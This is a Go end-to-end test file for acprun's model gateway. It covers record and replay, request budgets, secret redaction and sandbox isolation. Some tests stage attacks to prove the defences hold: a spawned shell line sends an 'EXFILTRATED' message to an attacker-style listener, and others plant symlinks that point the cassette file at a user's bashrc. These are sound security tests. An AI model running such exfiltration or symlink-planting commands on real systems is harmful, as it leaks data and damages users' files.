package e2e_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	json "github.com/go-json-experiment/json/v1"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/acprun/acprun/internal/testkit"
	"github.com/acprun/acprun/report"
)

// gatewayAPI is one provider API as the mock agent's model step and a
// fake upstream speak it.
type gatewayAPI struct {
	api, env, model string
	upstream        func(t *testing.T) (url string, close func())
	usage           *report.Usage // what the fake reports per request; nil: not checked
}

var gatewayAPIs = []gatewayAPI{
	{api: "anthropic", env: "ANTHROPIC_BASE_URL", model: "claude-test",
		upstream: func(t *testing.T) (string, func()) { s := testkit.NewAnthropicServer(t); return s.URL, s.Close },
		usage: &report.Usage{TotalTokens: 20, InputTokens: testkit.AnthropicInputTokens, OutputTokens: testkit.AnthropicOutputTokens,
			CachedReadTokens: testkit.AnthropicCacheReadTokens, CachedWriteTokens: testkit.AnthropicCacheWriteTokens}},
	{api: "openai-chat", env: "OPENAI_BASE_URL", model: "gpt-test",
		upstream: func(t *testing.T) (string, func()) {
			s := testkit.NewModelServer(t, "gpt-test")
			return s.URL, func() {}
		}},
	{api: "openai-responses", env: "OPENAI_BASE_URL", model: "gpt-test",
		upstream: func(t *testing.T) (string, func()) {
			s := testkit.NewResponsesServer(t, "gpt-test")
			return s.URL, func() {}
		},
		usage: &report.Usage{TotalTokens: 15, InputTokens: 10, OutputTokens: 5}},
	{api: "gemini", env: "GOOGLE_GEMINI_BASE_URL", model: "gemini-test",
		upstream: func(t *testing.T) (string, func()) {
			s := testkit.NewGeminiServer(t, "gemini-test")
			return s.URL, func() {}
		},
		usage: &report.Usage{TotalTokens: 15, InputTokens: 10, OutputTokens: 5}},
}

// gatewayFiles is a scenario whose mock agent asks the model of api once
// per turn with the turn's prompt, through the gateway to upstream.
func gatewayFiles(a gatewayAPI, upstream, second string) map[string]string {
	step := fmt.Sprintf(`{model: {api: %s, model: %s, prompt: "{{prompt}}"}}`, a.api, a.model)
	return map[string]string{
		"agent.mock.yaml": "turns:\n  - steps: [" + step + "]\n  - steps: [" + step + "]\n",
		"s.yaml": fmt.Sprintf(`name: g
agent: {command: [acprun, mock-agent, agent.mock.yaml]}
gateway: {mode: meter, env: %s, upstream: %q}
turns:
  - prompt: first
    expect: {text: {contains: %q}}
  - prompt: %s
`, a.env, upstream, testkit.SideText, second),
	}
}

// TestGatewayRecordReplay: for each provider API, a run recorded through
// the gateway (run --gateway record) and its replay with the upstream
// gone (--gateway replay) give the agent the same answers and the turns
// the same usage, read from the provider's stream; a changed prompt is a
// divergence that fails its turn, naming the request and the field.
func TestGatewayRecordReplay(t *testing.T) {
	underRace(t)
	t.Parallel()
	for _, a := range gatewayAPIs {
		t.Run(a.api, func(t *testing.T) {
			url, closeUp := a.upstream(t)
			dir := t.TempDir()
			writeFiles(t, dir, gatewayFiles(a, url, "second"))
			res, rec := runResults(t, dir, "s.yaml", "--gateway", "record")
			if res.code != exitOK {
				t.Fatalf("record: exit %d\n%s", res.code, res.stderr)
			}
			r := rec.Scenarios[0]
			cassette := filepath.Join(dir, "cassettes", "g.cassette.json")
			if r.Gateway == nil || r.Gateway.Mode != "record" || r.Gateway.Requests != 2 || r.Gateway.Cassette != cassette {
				t.Fatalf("record: gateway %+v, want 2 requests recorded in %s", r.Gateway, cassette)
			}
			var doc struct {
				Version   int               `json:"version"`
				Exchanges []json.RawMessage `json:"exchanges"`
			}
			readJSON(t, cassette, &doc)
			if doc.Version != 1 || len(doc.Exchanges) != 2 {
				t.Fatalf("cassette: version %d, %d exchanges; want 1, 2", doc.Version, len(doc.Exchanges))
			}
			closeUp()

			res, rep := runResults(t, dir, "s.yaml", "--gateway", "replay")
			if res.code != exitOK {
				t.Fatalf("replay: exit %d\n%s", res.code, res.stderr)
			}
			p := rep.Scenarios[0]
			for i, tr := range p.Turns {
				was := r.Turns[i]
				if tr.Text != was.Text || tr.StopReason != was.StopReason || !gocmp.Equal(tr.Usage, was.Usage) {
					t.Errorf("turn %d: replayed %q %s %+v, recorded %q %s %+v", tr.Index, tr.Text, tr.StopReason, tr.Usage, was.Text, was.StopReason, was.Usage)
				}
				if a.usage != nil {
					if diff := gocmp.Diff(a.usage, tr.Usage); diff != "" {
						t.Errorf("turn %d usage (-want +got):\n%s", tr.Index, diff)
					}
				}
			}

			writeFiles(t, dir, gatewayFiles(a, url, "changed"))
			res, div := runResults(t, dir, "s.yaml", "--gateway", "replay", "--transcripts", "tr")
			d := div.Scenarios[0]
			if res.code != exitFailed || d.Turns[1].CancelCause != report.CauseDivergence {
				t.Fatalf("divergence: exit %d, turn 2 cancelCause %q\n%s", res.code, d.Turns[1].CancelCause, res.stderr)
			}
			if got := strings.Join(d.Turns[1].Failures, "\n"); !strings.Contains(got, "request 2 (POST ") || !strings.Contains(got, `recorded "second", received "changed"`) {
				t.Errorf("divergence: turn 2 failures %q, want request 2 and the prompt named", d.Turns[1].Failures)
			}
			if !strings.Contains(res.stderr, `recorded "second", received "changed"`) {
				t.Errorf("divergence not shown:\n%s", res.stderr)
			}

			// Its transcript replays turn 1, and turn 2 ends at once at
			// the divergence's cancel, which no replay meets again.
			files := gatewayFiles(a, url, "changed")
			writeFiles(t, dir, map[string]string{"r.yaml": strings.Replace(files["s.yaml"], "agent: {command: [acprun, mock-agent, agent.mock.yaml]}", "agent: {replay: tr/g.jsonl}", 1)})
			res, rp := runResults(t, dir, "r.yaml", "--timeout", "1m")
			want := "during turn 2 (cancelCause divergence): the recording cannot be replayed past that point"
			if tr := rp.Scenarios[0].Turns; res.code != exitFailed || len(tr) != 2 || tr[0].StopReason != "end_turn" || !strings.Contains(tr[1].Error, want) {
				t.Errorf("replaying the divergence: exit %d, turns %+v; want turn 2 ended by %q\n%s", res.code, tr, want, res.stderr)
			}
		})
	}
}

// TestGatewayMissingCassette: a replay without its cassette is an error
// before the agent starts (exit 3), naming the file and how to record it.
func TestGatewayMissingCassette(t *testing.T) {
	underRace(t)
	t.Parallel()
	dir := t.TempDir()
	writeFiles(t, dir, gatewayFiles(gatewayAPIs[0], "https://api.anthropic.com", "second"))
	res, out := runResults(t, dir, "s.yaml", "--gateway", "replay")
	if res.code != exitAgent || out.Scenarios[0].Status != report.StatusError {
		t.Fatalf("exit %d, status %s\n%s", res.code, out.Scenarios[0].Status, res.stderr)
	}
	if e := out.Scenarios[0].Error; !strings.Contains(e, filepath.Join("cassettes", "g.cassette.json")) || !strings.Contains(e, "--gateway record") {
		t.Errorf("error %q, want the cassette named and how to record it", e)
	}
}

// TestGatewayCutCassette: a cassette cut short after a line break is an
// error at the end of its last line, where a results or state file's is,
// not on a line it does not have.
func TestGatewayCutCassette(t *testing.T) {
	underRace(t)
	t.Parallel()
	dir := t.TempDir()
	files := gatewayFiles(gatewayAPIs[0], "https://api.anthropic.com", "second")
	files["cassettes/g.cassette.json"] = "{\"version\": 1,\n"
	writeFiles(t, dir, files)
	res, out := runResults(t, dir, "s.yaml", "--gateway", "replay")
	if res.code != exitAgent || out.Scenarios[0].Status != report.StatusError {
		t.Fatalf("exit %d, status %s\n%s", res.code, out.Scenarios[0].Status, res.stderr)
	}
	want := filepath.Join("cassettes", "g.cassette.json") + ":1:15: not a valid cassette: unexpected end of JSON input; record it again with --gateway record"
	if e := out.Scenarios[0].Error; !strings.Contains(e, want) {
		t.Errorf("error %q, want %q", e, want)
	}
}

// TestGatewayBudget: with budget.maxRequests 1 the gateway refuses the
// second model request with the provider's rate-limit error; acprun
// cancels that turn (cancelCause budget), the scenario fails naming the
// budget, and the upstream never sees the request. The transcript's
// session/cancel says the gateway found the budget passed; replayed, the
// agent makes no model requests, so no budget passes and no client cancels
// there: turn 2 ends at once as recorded (stopReason cancelled), instead
// of waiting for a cancel that only its turnTimeout would send.
func TestGatewayBudget(t *testing.T) {
	underRace(t)
	t.Parallel()
	up := testkit.NewAnthropicServer(t)
	dir := t.TempDir()
	files := gatewayFiles(gatewayAPIs[0], up.URL, "second")
	files["s.yaml"] = strings.Replace(files["s.yaml"], "turns:", "budget: {maxRequests: 1}\nturns:", 1)
	writeFiles(t, dir, files)
	res, out := runResults(t, dir, "s.yaml", "--transcripts", "tr")
	r := out.Scenarios[0]
	if res.code != exitFailed || len(r.Turns) != 2 || r.Turns[1].CancelCause != report.CauseBudget || r.Turns[1].StopReason != "cancelled" {
		t.Fatalf("exit %d, turns %+v; want turn 2 cancelled (budget)\n%s", res.code, r.Turns, res.stderr)
	}
	if got := strings.Join(r.Turns[1].Failures, "\n"); !strings.Contains(got, "budget.maxRequests") {
		t.Errorf("turn 2 failures %q, want the budget named", r.Turns[1].Failures)
	}
	if n := len(up.Requests()); n != 1 {
		t.Errorf("the upstream got %d requests, want 1", n)
	}
	if r.Gateway.Requests != 1 || r.Turns[0].Usage == nil || r.Turns[0].Usage.TotalTokens != 20 {
		t.Errorf("gateway %+v, turn 1 usage %+v; want 1 request metered", r.Gateway, r.Turns[0].Usage)
	}

	transcript := string(replayRead(t, filepath.Join(dir, "tr", "g.jsonl")))
	if !strings.Contains(transcript, `"_meta":{"acprun/cancelAt":"gateway","acprun/cancelCause":"budget"}`) {
		t.Errorf("the transcript's session/cancel does not say the gateway found the budget passed:\n%s", transcript)
	}
	// The replay keeps the scenario's gateway and budget; a turnTimeout
	// bounds the wait of a replay that waits for a cancel.
	replayed := strings.Replace(files["s.yaml"], "agent: {command: [acprun, mock-agent, agent.mock.yaml]}", "agent: {replay: tr/g.jsonl}\nturnTimeout: 20s", 1)
	writeFiles(t, dir, map[string]string{"r.yaml": replayed})
	res, rp := runResults(t, dir, "r.yaml")
	p := rp.Scenarios[0]
	if res.code != exitFailed || len(p.Turns) != 2 {
		t.Fatalf("replay: exit %d, turns %+v; want 2 turns, failed\n%s", res.code, p.Turns, res.stderr)
	}
	if tr := p.Turns[0]; tr.StopReason != "end_turn" || tr.Text != r.Turns[0].Text {
		t.Errorf("replayed turn 1 = %s %q, want end_turn %q as recorded", tr.StopReason, tr.Text, r.Turns[0].Text)
	}
	if tr := p.Turns[1]; tr.StopReason != "cancelled" || tr.CancelCause != "" || tr.Error != "" {
		t.Errorf("replayed turn 2 = %s (cancelCause %q) %q; want it ended at once as recorded: cancelled, by no cancel of the replay's", tr.StopReason, tr.CancelCause, tr.Error)
	}
	if !strings.Contains(p.StderrTail, "tr/g.jsonl:") || !strings.Contains(p.StderrTail, "cancelCause budget") {
		t.Errorf("stderr = %q, want the transcript's line of the gateway's budget cancel", p.StderrTail)
	}
}

// TestGatewayFlagValidateListExplain: a suite meant to run with --gateway
// meter (a budget's maxRequests, no gateway: of its own) is refused by
// validate, list and explain without the flag, as by run, and accepted
// with it, as by run --dry-run: explain then explains its rules.
func TestGatewayFlagValidateListExplain(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"acprun.yaml": "",
		"s.yaml":      "name: s\nagent: claude\npermissions: {default: deny, allow: [{kind: read}]}\nbudget: {maxRequests: 3}\nturns: [{prompt: x}]\n",
	})
	env := []string{"ANTHROPIC_BASE_URL="}
	const needsGateway = "s.yaml:4:23: budget maxRequests counts the agent's model requests through acprun's gateway, and this scenario has none: add gateway: {mode: meter} to it (or to the config's defaults), or run it with --gateway meter"
	for _, cmd := range [][]string{{"validate"}, {"list"}, {"run", "--dry-run"}, {"explain", "--kind", "read"}} {
		without := acprunEnv(t, dir, env, append(cmd, "s.yaml")...)
		if without.code != exitUsage || !strings.Contains(without.stderr, needsGateway) {
			t.Errorf("%v without --gateway: exit %d, stderr:\n%s\nwant %d and %q", cmd, without.code, without.stderr, exitUsage, needsGateway)
		}
		with := acprunEnv(t, dir, env, append(cmd, "s.yaml", "--gateway", "meter")...)
		if with.code != exitOK {
			t.Errorf("%v --gateway meter: exit %d, want 0\nstderr:\n%s", cmd, with.code, with.stderr)
		}
		if cmd[0] == "explain" && !strings.Contains(with.stdout, "decision: ALLOW by allow rule s.yaml:3") {
			t.Errorf("explain --gateway meter: stdout\n%s\nwant the read allowed by s.yaml:3", with.stdout)
		}
	}
}

// TestGatewayRefusalCancelsMockTurn: a turn whose model request the
// gateway refuses, once it has sent the turn's session/cancel (a budget
// passed, a replay's divergence), ends cancelled with the mock agent every
// run, whichever of the two the agent reads first. The test takes the
// order that made it end with an error at times: the agent's command drops
// session/cancel from its stdin, so that the agent reads the refusal and
// never the cancel. The gateway's refusal says the turn was cancelled, and
// the mock agent takes it for the cancel.
func TestGatewayRefusalCancelsMockTurn(t *testing.T) {
	underRace(t)
	t.Parallel()
	up := testkit.NewAnthropicServer(t)
	// files is the scenario with its second turn's prompt: its agent is
	// the mock agent behind a filter that drops session/cancel.
	files := func(extra, second string) map[string]string {
		return map[string]string{
			"agent.mock.yaml": "default: {steps: [{model: {api: anthropic, model: claude-test, prompt: \"{{prompt}}\"}}]}\n",
			"s.yaml": fmt.Sprintf(`name: g
agent:
  command: [sh, -c, 'grep --line-buffered -v "\"session/cancel\"" | exec "$0" mock-agent agent.mock.yaml', %q]
gateway: {mode: meter, env: ANTHROPIC_BASE_URL, upstream: %q}
permissions: {default: deny}
%sturns:
  - prompt: first
  - prompt: %s
`, acprunBin, up.URL, extra, second),
		}
	}
	for _, tt := range []struct {
		name  string
		cause string
		run   func(t *testing.T, dir string) report.Results
	}{
		{"budget", report.CauseBudget, func(t *testing.T, dir string) report.Results {
			writeFiles(t, dir, files("budget: {maxRequests: 1}\n", "second"))
			_, out := runResults(t, dir, "s.yaml")
			return out
		}},
		{"divergence", report.CauseDivergence, func(t *testing.T, dir string) report.Results {
			writeFiles(t, dir, files("", "second"))
			if res, _ := runResults(t, dir, "s.yaml", "--gateway", "record"); res.code != exitOK {
				t.Fatalf("record: exit %d\n%s", res.code, res.stderr)
			}
			writeFiles(t, dir, files("", "changed"))
			_, out := runResults(t, dir, "s.yaml", "--gateway", "replay")
			return out
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := tt.run(t, t.TempDir()).Scenarios[0]
			if r.Status != report.StatusFailed || len(r.Turns) != 2 {
				t.Fatalf("status %s, %d turns; want failed with 2 (error %q)", r.Status, len(r.Turns), r.Error)
			}
			if tr := r.Turns[1]; tr.StopReason != "cancelled" || tr.CancelCause != tt.cause || tr.CancelIgnored || tr.Error != "" {
				t.Errorf("turn 2: stopReason %q, cancelCause %q, cancelIgnored %v, error %q; want cancelled (%s)", tr.StopReason, tr.CancelCause, tr.CancelIgnored, tr.Error, tt.cause)
			}
		})
	}
}

// TestGatewayNoSecrets: the key the agent sends is forwarded in record but
// stored nowhere: not in the cassette, the results or the transcript.
func TestGatewayNoSecrets(t *testing.T) {
	underRace(t)
	t.Parallel()
	up := testkit.NewAnthropicServer(t)
	dir := t.TempDir()
	const key = "sk-ant-api03-very-secret-key-value"
	writeFiles(t, dir, gatewayFiles(gatewayAPIs[0], up.URL, "second"))
	res := acprunEnv(t, dir, []string{"ANTHROPIC_API_KEY=" + key}, "run", "s.yaml", "--gateway", "record", "-o", "out.json", "--transcripts", "tr")
	if res.code != exitOK {
		t.Fatalf("exit %d\n%s", res.code, res.stderr)
	}
	if got := up.Requests()[0].Header.Get("X-Api-Key"); got != key {
		t.Errorf("the upstream got key %q, want the agent's", got)
	}
	filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err == nil && strings.Contains(string(data), key) && !strings.HasSuffix(path, ".yaml") {
			t.Errorf("%s holds the key", path)
		}
		return nil
	})
}

// TestGatewaySplitSecret: a model streams its answer in small deltas, so
// a secret it repeats (the agent's key, a token acprun knows) is split
// between the stream's events; the cassette holds it nowhere, its deltas
// make the text with the secrets replaced by [REDACTED], and a replay of
// it gives the agent that text.
func TestGatewaySplitSecret(t *testing.T) {
	underRace(t)
	t.Parallel()
	const key, token = "sk-ant-api03-Split-Secret-Key-Value", "ghp_SplitGitHubToken0123456789"
	answer := "the key is " + key + " and the token " + token + ", done"
	const want = "the key is [REDACTED] and the token [REDACTED], done"
	up := testkit.NewAnthropicServer(t)
	up.SetSideText(answer)
	up.StreamInDeltas(7)
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"agent.mock.yaml": "default: {steps: [{model: {api: anthropic, model: claude-test, prompt: \"{{prompt}}\"}}]}\n",
		"s.yaml": fmt.Sprintf("name: g\nagent: {command: [acprun, mock-agent, agent.mock.yaml]}\n"+
			"gateway: {mode: record, env: ANTHROPIC_BASE_URL, upstream: %q}\nturns:\n  - prompt: hi\n    expect: {text: {contains: done}}\n", up.URL),
	})
	env := []string{"ANTHROPIC_API_KEY=" + key, "GITHUB_TOKEN=" + token}
	res := acprunEnv(t, dir, env, "run", "s.yaml", "-o", "out.json")
	if res.code != exitOK {
		t.Fatalf("record: exit %d\n%s", res.code, res.stderr)
	}
	cassette := filepath.Join(dir, "cassettes", "g.cassette.json")
	data, err := os.ReadFile(cassette)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{key, token} {
		if strings.Contains(string(data), secret) {
			t.Errorf("the cassette holds %q", secret)
		}
	}
	var doc struct {
		Exchanges []struct {
			Response struct {
				Events []struct {
					Data string `json:"data"`
				} `json:"events"`
			} `json:"response"`
		} `json:"exchanges"`
	}
	readJSON(t, cassette, &doc)
	var deltas strings.Builder
	for _, ex := range doc.Exchanges {
		for _, e := range ex.Response.Events {
			_, line, _ := strings.Cut(e.Data, "data: ")
			var ev struct {
				Delta struct {
					Text string `json:"text"`
				} `json:"delta"`
			}
			if err := json.Unmarshal([]byte(strings.TrimSpace(line)), &ev); err != nil {
				t.Errorf("event %q: its data is not JSON: %v", e.Data, err)
			}
			deltas.WriteString(ev.Delta.Text)
		}
	}
	if deltas.String() != want {
		t.Errorf("the cassette's deltas make %q, want %q", deltas.String(), want)
	}

	up.Close()
	res = acprunEnv(t, dir, env, "run", "s.yaml", "--gateway", "replay", "-o", "out.json")
	if res.code != exitOK {
		t.Fatalf("replay: exit %d\n%s", res.code, res.stderr)
	}
	if got := readResults(t, filepath.Join(dir, "out.json")).Scenarios[0].Turns[0].Text; got != want {
		t.Errorf("replayed text %q, want %q", got, want)
	}
}

// TestGatewaySandbox: with the sandbox's network off, the agent reaches
// its model through the gateway, and nothing else: a direct connection to
// the upstream fails. Under bubblewrap the agent keeps a network namespace
// of its own, the gateway reached through a relay inside: a listener on
// another address of the host, on the gateway's port, gets nothing, nor
// does an abstract UNIX socket of the host's, and the results record no
// port. Under Landlock alone the gateway's port is open on every address:
// the results record it, and a warning says so.
func TestGatewaySandbox(t *testing.T) {
	underRace(t)
	t.Parallel()
	up := testkit.NewAnthropicServer(t)
	addr := strings.TrimPrefix(up.URL, "http://")
	for _, bwrap := range []bool{true, false} {
		t.Run("bwrap="+fmt.Sprint(bwrap), func(t *testing.T) {
			dir := realTempDir(t)
			env := needSandbox(t, bwrap, realTempDir(t))
			writeFiles(t, dir, map[string]string{
				"agent.mock.yaml": "turns:\n  - steps: [{model: {api: anthropic, model: claude-test, prompt: hi}}]\n  - steps: [{connect: " + addr + "}]\n",
				"s.yaml": fmt.Sprintf("name: g\nagent: {command: [acprun, mock-agent, agent.mock.yaml]}\nsandbox: {network: off}\n"+
					"gateway: {mode: meter, env: ANTHROPIC_BASE_URL, upstream: %q}\nturns:\n  - prompt: one\n    expect: {text: {contains: %q}}\n  - prompt: two\n", up.URL, testkit.SideText),
			})
			res, out := runSandboxed(t, dir, env, "s.yaml")
			r := out.Scenarios[0]
			if res.code != exitOK || r.Gateway == nil || r.Gateway.Requests != 1 {
				t.Fatalf("exit %d, gateway %+v\n%s", res.code, r.Gateway, res.stderr)
			}
			if text := r.Turns[1].Text; !strings.HasPrefix(text, "connect: error: ") {
				t.Errorf("a direct connection to the upstream: %q, want it refused", text)
			}
			if bwrap {
				if r.Sandbox == nil || r.Sandbox.Network != "off" || len(r.Sandbox.Ports) > 0 || strings.Contains(strings.Join(r.Warnings, "\n"), "sandbox") {
					t.Errorf("sandbox %+v, warnings %q; want network off, no port, no sandbox warning", r.Sandbox, r.Warnings)
				}
				return
			}
			if r.Sandbox == nil || r.Sandbox.Network != "off" || len(r.Sandbox.Ports) != 1 {
				t.Fatalf("sandbox %+v, want network off and the gateway's port", r.Sandbox)
			}
			port := fmt.Sprint(r.Sandbox.Ports[0])
			want := "s.yaml:3:10: sandbox network off: Landlock alone cannot filter by address, so the loopback port " + port +
				" is open on every host, not only on the loopback interface (bubblewrap (ACPRUN_TEST_NO_BWRAP=1) keeps the agent to acprun's port)"
			if !slices.Contains(r.Warnings, want) || !strings.Contains(res.stderr, want) {
				t.Errorf("warnings %q, want %q (on stderr too)", r.Warnings, want)
			}
		})
	}
}

// TestGatewaySandboxReachesNothingElse: the tester's case, under
// bubblewrap. The agent learns the gateway's port from its base URL and
// sends a message to that port on another address of the host (standing
// for an attacker's server listening on every port), and to an abstract
// UNIX socket of the host's: neither gets anything, while its model
// request goes through. The agent hands the port over a FIFO and waits
// on another for the listener to be up.
func TestGatewaySandboxReachesNothingElse(t *testing.T) {
	underRace(t)
	t.Parallel()
	ip := hostIPv4(t)
	dial, err := testkit.Build("./testdata/dial")
	if err != nil {
		t.Fatal(err)
	}
	up := testkit.NewAnthropicServer(t)
	dir := realTempDir(t)
	env := needSandbox(t, true, realTempDir(t))
	for _, f := range []string{"port.fifo", "go.fifo"} {
		if err := syscall.Mkfifo(filepath.Join(dir, f), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	abstract := fmt.Sprintf("@acprun-e2e-%d", os.Getpid())
	al, err := net.Listen("unix", abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer al.Close()
	writeFiles(t, dir, map[string]string{
		"agent.mock.yaml": `turns:
  - steps:
      - model: {api: anthropic, model: claude-test, prompt: hi}
      - spawn: "P=${ANTHROPIC_BASE_URL#http://127.0.0.1:}; P=${P%%/*}; echo $P > port.fifo; read go < go.fifo; ` +
			dial + ` tcp ` + ip + `:$P EXFILTRATED; ` + dial + ` unix ` + abstract + ` VIA-ABSTRACT"
`,
		"s.yaml": fmt.Sprintf("name: g\nagent: {command: [acprun, mock-agent, agent.mock.yaml]}\nsandbox: {network: off}\n"+
			"gateway: {mode: meter, env: ANTHROPIC_BASE_URL, upstream: %q}\nturns:\n  - prompt: one\n    expect: {text: {contains: %q}}\n", up.URL, testkit.SideText),
	})
	// The listener on the gateway's port, once the agent has said it.
	listening := make(chan net.Listener, 1)
	go func() {
		defer close(listening)
		port, err := os.ReadFile(filepath.Join(dir, "port.fifo"))
		if err != nil || len(port) == 0 {
			return
		}
		l, err := net.Listen("tcp", net.JoinHostPort(ip, strings.TrimSpace(string(port))))
		if err != nil {
			t.Errorf("listen on the gateway's port on %s: %v", ip, err)
		} else {
			listening <- l
		}
		os.WriteFile(filepath.Join(dir, "go.fifo"), []byte("go\n"), 0o600)
	}()
	res, out := runSandboxed(t, dir, env, "s.yaml")
	// Whatever happened, the goroutine's read of port.fifo ends.
	if f, err := os.OpenFile(filepath.Join(dir, "port.fifo"), os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
		f.Close()
	}
	l := <-listening
	if l == nil {
		t.Fatalf("the agent did not say the gateway's port: exit %d\n%s", res.code, res.stderr)
	}
	defer l.Close()
	r := out.Scenarios[0]
	if res.code != exitOK || r.Gateway == nil || r.Gateway.Requests != 1 {
		t.Errorf("exit %d, gateway %+v; want 0 and the model request through the gateway\n%s", res.code, r.Gateway, res.stderr)
	}
	text := r.Turns[0].Text
	for _, want := range []string{"network is unreachable", "dial " + abstract + ": dial unix " + abstract + ": connect: connection refused"} {
		if !strings.Contains(text, want) {
			t.Errorf("the agent said %q, want %q in it", text, want)
		}
	}
	// What reached the listeners waits in their backlogs: nothing must.
	for _, l := range []net.Listener{l, al} {
		if got, ok := pending(t, l); ok {
			t.Errorf("%s got a connection from the sandbox: %q", l.Addr(), got)
		}
	}
}

// pending accepts a connection waiting in l's backlog, without waiting for
// one, and reads what it says; ok is false when none waits.
func pending(t *testing.T, l net.Listener) (got string, ok bool) {
	t.Helper()
	rc, err := l.(syscall.Conn).SyscallConn()
	if err != nil {
		t.Fatal(err)
	}
	fd, aerr := -1, error(nil)
	if err := rc.Control(func(lfd uintptr) { fd, _, aerr = syscall.Accept(int(lfd)) }); err != nil {
		t.Fatal(err)
	}
	if errors.Is(aerr, syscall.EAGAIN) {
		return "", false // the listener's socket does not block
	}
	if aerr != nil {
		t.Fatal(aerr)
	}
	c := os.NewFile(uintptr(fd), "pending")
	defer c.Close()
	b, _ := io.ReadAll(c)
	return string(b), true
}

// hostIPv4 is an IPv4 address of this host other than a loopback one;
// the test is skipped when it has none.
func hostIPv4(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String()
		}
	}
	t.Skip("this host has no address but loopback ones")
	return ""
}

// TestGatewayRecordPlantedLink: while its turn runs, the agent (whose cwd
// holds cassettes/) puts a symlink to a file of the user's where its
// cassette goes. Record writes the cassette in that place, not through
// the link: the user's file is as it was.
func TestGatewayRecordPlantedLink(t *testing.T) {
	underRace(t)
	t.Parallel()
	a := gatewayAPIs[1] // openai-chat
	url, closeUp := a.upstream(t)
	defer closeUp()
	victim := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	files := gatewayFiles(a, url, "second")
	files["agent.mock.yaml"] = fmt.Sprintf(`turns:
  - steps:
      - spawn: "ln -s %s cassettes/planted && mv -f cassettes/planted cassettes/g.cassette.json"
      - {model: {api: %s, model: %s, prompt: "{{prompt}}"}}
  - steps: [{text: two}]
`, victim, a.api, a.model)
	writeFiles(t, dir, files)
	res, rec := runResults(t, dir, "s.yaml", "--gateway", "record")
	if res.code != exitOK || !strings.HasPrefix(rec.Scenarios[0].Turns[0].Text, "spawn: exit 0: ") {
		t.Fatalf("exit %d, turn 1 %q (want the link planted)\n%s", res.code, rec.Scenarios[0].Turns[0].Text, res.stderr)
	}
	if data, _ := os.ReadFile(victim); string(data) != "precious\n" {
		t.Errorf("record wrote the cassette through the agent's link: the user's file holds %.80q", data)
	}
	cassette := filepath.Join(dir, "cassettes", "g.cassette.json")
	if fi, err := os.Lstat(cassette); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("the cassette is %v, %v; want a regular file", fi, err)
	}
}

// TestGatewayReplayPlantedLink: the first attempt's agent (whose cwd
// holds cassettes/) replaces the second attempt's cassette with a symlink
// to a file of the user's. Replay refuses the link rather than read what
// it points at; and a scenario whose cassettes directory was missing when
// the run started finds no cassette in the one that agent made since.
func TestGatewayReplayPlantedLink(t *testing.T) {
	underRace(t)
	t.Parallel()
	victim := plantedVictim(t)
	dir := t.TempDir()
	scenario := "name: %s\nagent: {command: [acprun, mock-agent, agent.mock.yaml]}\n" +
		"gateway: {mode: replay, env: OPENAI_BASE_URL, dir: %s}\npermissions: {default: deny}\nturns: [{prompt: hi}]\n"
	writeFiles(t, dir, map[string]string{
		"cassettes/g#1.cassette.json": `{"version": 1, "exchanges": []}`,
		"cassettes/g#2.cassette.json": `{"version": 1, "exchanges": []}`,
		"agent.mock.yaml": fmt.Sprintf(`turns:
  - steps:
      - spawn: "ln -sf %s 'cassettes/g#2.cassette.json' && mkdir -p later && ln -sf %s 'later/h#1.cassette.json'"
      - text: ok
`, victim, victim),
		"a.yaml": fmt.Sprintf(scenario, "g", "cassettes"),
		"b.yaml": fmt.Sprintf(scenario, "h", "later"),
	})
	res, out := runResults(t, dir, "a.yaml", "b.yaml", "--repeat", "2", "-j", "1")
	if len(out.Scenarios) != 4 || out.Scenarios[0].Turns[0].Text != "spawn: exit 0: ok" {
		t.Fatalf("exit %d, scenarios %+v (want the links planted)\n%s", res.code, out.Scenarios, res.stderr)
	}
	for i, want := range map[int]string{
		1: "a.yaml:3:10: gateway: cassette " + filepath.Join(dir, "cassettes", "g#2.cassette.json") + ": replaced by a symbolic link since the run started",
		2: "b.yaml:3:10: gateway: cassette " + filepath.Join(dir, "later", "h#1.cassette.json") + " does not exist: record it with --gateway record",
	} {
		if got := out.Scenarios[i].Error; !strings.HasPrefix(got, want) {
			t.Errorf("%s #%d: error %q, want %q…", out.Scenarios[i].Name, out.Scenarios[i].Attempt, got, want)
		}
	}
}

// TestGatewayCassetteDirUnwritable: a gateway.dir that record cannot
// write its cassettes in is an output-path error before anything runs
// (exit 2, at the scenario's gateway), as an unwritable --transcripts
// directory is: no agent starts and no model request is made. One that is
// removed during the run (here by the scenario's setup) loses the
// recording: an output lost (exit 4, named after the summary), not the
// agent's failure, whose scenario passes.
func TestGatewayCassetteDirUnwritable(t *testing.T) {
	t.Parallel()
	up := testkit.NewAnthropicServer(t)
	defer up.Close()
	dir := t.TempDir()
	files := gatewayFiles(gatewayAPIs[0], up.URL, "second")
	files["s.yaml"] = strings.Replace(files["s.yaml"], "gateway: {mode: meter,", "gateway: {mode: record, dir: cas,", 1)
	files["f.yaml"] = strings.Replace(files["s.yaml"], "dir: cas,", "dir: file/cas,", 1)
	files["r.yaml"] = strings.Replace(files["s.yaml"], "name: g\n", "name: g\nsetup: [rm -rf cas]\n", 1)
	files["file"] = ""
	writeFiles(t, dir, files)
	if err := os.Mkdir(filepath.Join(dir, "cas"), 0o755); err != nil {
		t.Fatal(err)
	}

	res := acprun(t, dir, "run", "f.yaml", "-o", "r.json")
